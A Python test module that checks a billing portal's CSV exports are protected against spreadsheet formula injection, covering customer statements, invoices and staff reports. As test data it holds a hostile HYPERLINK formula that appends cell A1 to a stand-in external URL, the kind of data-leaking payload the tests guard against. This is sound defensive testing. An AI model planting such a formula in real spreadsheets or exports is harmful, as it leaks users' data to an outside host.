"""No file that people open in a spreadsheet holds a formula (bar 48)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from blueprints.staff.reports.views import KINDS
from core.downloads import BYTE_ORDER_MARK, csv_lines
from core.settings import ROOT
from tests.conftest import Portal
from tests.page import BASE

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
EVIL = '=HYPERLINK("http://example.net?"&A1,"Open")'
WRITERS = {"core/downloads.py", "blueprints/staff/rejected_file.py"}
"""The second writes refused rows back as they came, to be mended and imported again."""


def is_formula(cell: str) -> bool:
    return cell.startswith(BEGINNINGS) and not NUMBER.fullmatch(cell)


@given(st.sampled_from(BEGINNINGS), st.text(max_size=30))
def test_text_that_begins_a_formula_is_text(beginning: str, rest: str) -> None:
    text = beginning + rest
    line = "".join(csv_lines([[text, -5, rest]]))
    cells = next(csv.reader(io.StringIO(line, newline="")))
    assert not any(is_formula(cell) for cell in cells)
    assert cells[1] == "-5"


def test_nothing_else_writes_csv() -> None:
    found = {
        str(path.relative_to(ROOT))
        for folder in ("blueprints", "core", "gateways")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)", path.read_text())
    }
    assert found == WRITERS


@pytest.mark.parametrize("engine_kind", ["sqlite"])
def test_no_export_holds_a_formula(portal: Portal) -> None:
    """Where customers or staff chose the words, every one of them is one."""
    portal.execute("UPDATE accounts SET name = :evil, number = '=' || number", evil=EVIL)
    portal.execute("UPDATE plans SET name = :evil", evil=EVIL)
    public_id = portal.one(
        "SELECT min(public_id) FROM invoices WHERE account_id = :id",
        id=portal.world.accounts["alice"],
    )
    alice, ada = portal.visitor("alice"), portal.visitor("ada")
    paths = [
        (alice, portal.path("billing/statement/csv?from=2026-01-01&to=2026-12-31")),
        (alice, portal.path(f"billing/invoices/{public_id}/csv")),
        *((ada, f"/staff/reports/{kind.name}/csv") for kind in KINDS),
        (ada, "/staff/reports/journal/csv?from=2026-01-01&to=2026-12-31"),
    ]
    evil = 0
    for visitor, path in paths:
        answer = visitor.client.get(path, base_url=BASE)
        assert answer.status_code == 200, path
        assert answer.mimetype == "text/csv"
        text = answer.text.removeprefix(BYTE_ORDER_MARK)
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if is_formula(cell)], (path, row)
            evil += "'=" in "".join(row)
    assert evil
